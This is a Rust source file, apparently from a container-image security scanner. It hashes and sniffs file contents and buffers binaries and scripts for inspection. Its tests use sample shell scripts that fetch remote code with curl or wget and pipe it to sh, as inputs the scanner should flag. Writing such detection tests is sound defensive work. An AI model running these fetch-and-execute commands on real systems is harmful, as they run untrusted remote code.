//! Reading one regular file's content in a single pass: sha256 of every
//! byte, the first bytes to sniff, and — for binaries and scripts — a bounded
//! buffer handed to the inspectors; a binary's every byte also streams
//! through an [`inspect::BinaryStream`], so its inspection does not depend on
//! its size. Shared by the tar walk and the rootfs walk.

use std::borrow::Cow;
use std::cell::RefCell;
use std::io::{self, Read};
use std::sync::Arc;

use crate::digest::{Hasher, Sha256};
use crate::finding::{Code, Finding, Severity};
use crate::inspect::{self, BinaryStream, FileFacts, Want};
use crate::limits::Limits;
use crate::path::ImagePath;

use super::{ContentKind, Entry, PkgData, PkgDigests, PkgHasher};

/// Bytes kept from the start of every file for content sniffing.
const HEAD_BYTES: usize = 512;

/// The largest buffer a thread keeps for its next binary or script.
const SPARE_MAX: usize = 4 << 20;

thread_local! {
    /// The buffer of this thread's last inspected file, for the next one:
    /// a fresh one per binary costs an allocation, its growth copies and
    /// a page fault per 4 KiB, more than the bytes' one copy into it.
    static SPARE: RefCell<Vec<u8>> = const { RefCell::new(Vec::new()) };
}

/// This thread's spare buffer, empty, with room for `want` bytes.
fn take_spare(want: usize) -> Vec<u8> {
    let mut v = SPARE.with_borrow_mut(std::mem::take);
    v.clear();
    v.reserve_exact(want);
    v
}

/// Give `v` back for the next file, unless it is too big to hold on to
/// or the thread already keeps a bigger one.
fn give_spare(v: Vec<u8>) {
    if v.capacity() <= SPARE_MAX {
        SPARE.with_borrow_mut(|s| {
            if v.capacity() > s.capacity() {
                *s = v;
            }
        });
    }
}

/// Why content could not be read.
#[derive(Debug)]
pub enum ContentError {
    Io(io::Error),
    /// More than `max_layer_bytes` (a sparse file can expand that far).
    TooLarge,
}

/// What one pass over a file learned.
pub struct ContentRead {
    pub sha256: Sha256,
    pub size: u64,
    pub content: ContentKind,
    pub facts: Option<Arc<FileFacts>>,
    /// Bytes inspected, when the file was larger than the buffer and that
    /// left something unanalysed.
    pub truncated_at: Option<usize>,
    /// What was left unanalysed, when known.
    pub partial: Vec<String>,
    /// Digests package managers record, database bytes.
    pub pkg: PkgData,
}

impl ContentRead {
    /// Copy the results into an entry.
    pub fn fill(self, e: &mut Entry) {
        e.sha256 = Some(self.sha256);
        e.size = self.size;
        e.content = self.content;
        e.facts = self.facts;
        // Nothing for the package managers: no digests, no database bytes.
        let empty = self.pkg.unhashed && self.pkg.db.is_none() && !self.pkg.db_too_large;
        e.pkg = (!empty).then(|| self.pkg.into_arc());
    }

    /// An info finding when only a prefix could be inspected.
    pub fn truncation_finding(&self, path: &ImagePath) -> Option<Finding> {
        self.truncated_at.map(|kept| {
            let f = Finding::new(Code::Unanalyzable)
                .at(path)
                .severity(Severity::Info);
            if self.partial.is_empty() {
                f.because(format!(
                    "only the first {kept} of {} bytes were inspected (raise --max-file-buffer)",
                    self.size
                ))
            } else {
                self.partial
                    .iter()
                    .fold(f, |f, p| f.because(format!("partially inspected: {p}")))
            }
        })
    }
}

fn decide(path: &ImagePath, head: &[u8], limits: &Limits) -> (Option<Want>, usize) {
    let w = inspect::wants(path, ContentKind::sniff(head), head);
    let cap = match w {
        Some(Want::Binary) => limits.max_file_buffer,
        Some(Want::Script(_)) => limits.max_file_buffer.min(inspect::MAX_SCRIPT_BYTES),
        None => HEAD_BYTES,
    };
    (w, cap.max(HEAD_BYTES))
}

/// Read `r` to its end with `buf` as scratch space.
pub fn read_content<R: Read>(
    r: &mut R,
    path: &ImagePath,
    limits: &Limits,
    buf: &mut [u8],
) -> Result<ContentRead, ContentError> {
    read_with(
        r,
        Pass::new(Cow::Borrowed(path), limits, true, Some(PkgDigests::BOTH)),
        buf,
    )
}

/// [`read_content`] with only the package digests `pkg` (the layer's
/// [`super::DigestPlan`] decided them).
pub(super) fn read_content_planned<R: Read>(
    r: &mut R,
    path: &ImagePath,
    limits: &Limits,
    buf: &mut [u8],
    pkg: PkgDigests,
) -> Result<ContentRead, ContentError> {
    read_with(
        r,
        Pass::new(Cow::Borrowed(path), limits, true, Some(pkg)),
        buf,
    )
}

/// [`read_content`]; without `pkg_digests`, no MD5 or SHA-1 (see
/// [`PkgHasher::without_digests`]): the file then carries no package data.
pub fn read_content_with<R: Read>(
    r: &mut R,
    path: &ImagePath,
    limits: &Limits,
    buf: &mut [u8],
    pkg_digests: bool,
) -> Result<ContentRead, ContentError> {
    let pkg = pkg_digests.then_some(PkgDigests::BOTH);
    read_with(r, Pass::new(Cow::Borrowed(path), limits, true, pkg), buf)
}

/// A file's pass without the digests (the sha256 is left at that of no
/// bytes, MD5 and SHA-1 `unhashed`: the tar walk's digest workers compute
/// them from the same bytes), fed range by range: the tar walk's
/// inspection worker ([`super::ranged`]) runs one per file as the stream's
/// chunks pass, on a thread of its own.
pub(super) struct Deferred<'l>(Pass<'static, 'l>);

impl<'l> Deferred<'l> {
    /// `len`: the file's size as its header gives it.
    pub fn new(path: ImagePath, limits: &'l Limits, len: u64) -> Self {
        let mut pass = Pass::new(Cow::Owned(path), limits, false, None);
        pass.size_hint = Some(len);
        Deferred(pass)
    }

    pub fn feed(&mut self, data: &[u8]) -> Result<(), ContentError> {
        self.0.feed(data)
    }

    pub fn finish(self) -> ContentRead {
        self.0.finish()
    }
}

fn read_with<R: Read>(
    r: &mut R,
    mut pass: Pass<'_, '_>,
    buf: &mut [u8],
) -> Result<ContentRead, ContentError> {
    loop {
        let n = match r.read(buf) {
            Ok(0) => break,
            Ok(n) => n,
            Err(e) if e.kind() == io::ErrorKind::Interrupted => continue,
            Err(e) => return Err(ContentError::Io(e)),
        };
        pass.feed(&buf[..n])?;
    }
    Ok(pass.finish())
}

/// One file's pass, chunk by chunk: hash everything, sniff the head, keep
/// what the inspector wants, stream a binary's every byte.
struct Pass<'a, 'l> {
    path: Cow<'a, ImagePath>,
    limits: &'l Limits,
    hasher: Hasher,
    /// Whether this pass computes the digests (sha256, MD5, SHA-1).
    digests: bool,
    pkg: PkgHasher,
    kept: Vec<u8>,
    /// None until the first HEAD_BYTES (or the whole file) have been seen.
    want: Option<Option<Want>>,
    cap: usize,
    truncated: bool,
    size: u64,
    /// The file's size when known before its bytes: the buffer is then
    /// sized once.
    size_hint: Option<u64>,
    stream: Option<BinaryStream>,
}

impl<'a, 'l> Pass<'a, 'l> {
    /// `digests`: the sha256 here; `pkg`: these of MD5 and SHA-1 here.
    fn new(
        path: Cow<'a, ImagePath>,
        limits: &'l Limits,
        digests: bool,
        pkg: Option<PkgDigests>,
    ) -> Self {
        Pass {
            limits,
            hasher: Hasher::new(),
            digests,
            pkg: match pkg {
                Some(which) => PkgHasher::planned(&path, limits, which),
                None => PkgHasher::without_digests(&path, limits),
            },
            kept: Vec::with_capacity(HEAD_BYTES),
            want: None,
            cap: HEAD_BYTES,
            truncated: false,
            size: 0,
            size_hint: None,
            stream: None,
            path,
        }
    }

    fn feed(&mut self, data: &[u8]) -> Result<(), ContentError> {
        self.size += data.len() as u64;
        if self.size > self.limits.max_layer_bytes {
            return Err(ContentError::TooLarge);
        }
        if self.digests {
            self.hasher.update(data);
        }
        self.pkg.update(data);
        let mut chunk = data;
        if self.want.is_none() {
            chunk = self.take_head(chunk);
        }
        if let Some(s) = self.stream.as_mut() {
            s.feed(chunk);
            // ELF dynamic-linking tables lie in the first read-only segment:
            // keep all of it, within four times the buffer.
            if let Some(end) = s.tables_end() {
                let end = usize::try_from(end).unwrap_or(usize::MAX);
                self.cap = self
                    .cap
                    .max(end.min(self.limits.max_file_buffer.saturating_mul(4)));
            }
        }
        if matches!(self.want, Some(Some(_))) {
            self.keep(chunk);
        }
        Ok(())
    }

    /// Keep the head; once it is complete, decide what the file needs.
    /// Returns the rest of the chunk.
    fn take_head<'c>(&mut self, chunk: &'c [u8]) -> &'c [u8] {
        let take = (HEAD_BYTES - self.kept.len()).min(chunk.len());
        self.kept.extend_from_slice(&chunk[..take]);
        if self.kept.len() == HEAD_BYTES {
            let (w, c) = decide(&self.path, &self.kept, self.limits);
            self.want = Some(w);
            self.cap = c;
            if w.is_some() {
                let whole = self
                    .size_hint
                    .map_or(1 << 16, |n| usize::try_from(n).unwrap_or(usize::MAX));
                let mut v = take_spare(whole.min(c));
                v.extend_from_slice(&self.kept);
                self.kept = v;
            }
            if w == Some(Want::Binary) {
                let mut s = BinaryStream::new(self.limits.max_file_buffer);
                s.feed(&self.kept);
                self.stream = Some(s);
            }
        }
        &chunk[take..]
    }

    /// Keep bytes for the inspector, up to the cap.
    fn keep(&mut self, chunk: &[u8]) {
        let kept = &mut self.kept;
        let take = (self.cap - kept.len()).min(chunk.len());
        if kept.capacity() - kept.len() < take {
            // Grow in big steps, never past the cap.
            kept.reserve_exact(
                (kept.len() * 2)
                    .max(kept.len() + take)
                    .max(1 << 16)
                    .min(self.cap)
                    - kept.len(),
            );
        }
        kept.extend_from_slice(&chunk[..take]);
        self.truncated |= take < chunk.len();
    }

    fn finish(self) -> ContentRead {
        let Pass {
            path,
            limits,
            mut kept,
            truncated,
            stream,
            ..
        } = self;
        let want = match self.want {
            Some(w) => w,
            None => decide(&path, &kept, limits).0,
        };
        let content = ContentKind::sniff(&kept);
        let inspected = kept.len();
        if truncated && let Some(s) = &stream {
            s.patch_prefix(&mut kept);
        }
        let facts = want.map(|w| {
            let streamed = stream.map(BinaryStream::finish);
            inspect::inspect_streamed(&path, w, &kept, truncated, streamed)
        });
        if want.is_some() {
            give_spare(kept);
        }
        // A binary larger than the buffer is only partial when a range it
        // needs was cut or its headers could not be read from the prefix.
        let (partial, why) = match facts.as_ref().and_then(|f| f.binary.as_ref()) {
            Some(b) if !b.partial.is_empty() => (true, b.partial.clone()),
            Some(b) => (truncated && b.parse_error.is_some(), Vec::new()),
            None => (truncated && want.is_some(), Vec::new()),
        };
        ContentRead {
            sha256: self.hasher.finish(),
            size: self.size,
            content,
            facts: facts.filter(FileFacts::is_notable).map(Arc::new),
            truncated_at: partial.then_some(inspected),
            partial: why,
            pkg: self.pkg.finish(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// `data` read on this thread as a file at `path`.
    fn read(path: &str, data: &[u8]) -> ContentRead {
        let mut buf = [0u8; 4096];
        read_content(
            &mut &data[..],
            &ImagePath::new(path.as_bytes()),
            &Limits::default(),
            &mut buf,
        )
        .expect("in memory")
    }

    fn facts(r: &ContentRead) -> Option<String> {
        r.facts.as_ref().map(|f| format!("{f:?}"))
    }

    fn spare() -> usize {
        SPARE.with_borrow(Vec::capacity)
    }

    #[test]
    fn a_file_after_a_bigger_one_is_read_as_on_a_fresh_thread() {
        let big = format!(
            "#!/bin/sh\n{}curl -fsSL http://203.0.113.9/x.sh | sh\n",
            "# padding\n".repeat(30_000)
        );
        let small = "#!/bin/sh\nwget -q -O- http://198.51.100.7/a | sh\n";
        let fresh = std::thread::spawn(move || facts(&read("a.sh", small.as_bytes())))
            .join()
            .unwrap();
        std::thread::spawn(move || {
            assert_eq!(spare(), 0);
            let first = read("b.sh", big.as_bytes());
            assert!(facts(&first).is_some_and(|f| f.contains("203.0.113.9")));
            assert!(spare() >= big.len(), "the buffer is kept for the next file");
            let second = read("a.sh", small.as_bytes());
            assert_eq!(facts(&second), fresh);
            assert!(!facts(&second).unwrap().contains("203.0.113.9"));
        })
        .join()
        .unwrap();
    }

    #[test]
    fn a_buffer_over_the_bound_is_not_kept() {
        std::thread::spawn(|| {
            let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
            elf.resize(SPARE_MAX + 4096, 0);
            let r = read("usr/bin/x", &elf);
            assert_eq!(r.size, elf.len() as u64);
            assert_eq!(spare(), 0, "{} bytes kept", spare());
            let mut small = b"\x7fELF\x02\x01\x01".to_vec();
            small.resize(SPARE_MAX, 0);
            read("usr/bin/y", &small);
            assert!(spare() >= SPARE_MAX && spare() < 2 * SPARE_MAX);
        })
        .join()
        .unwrap();
    }
}
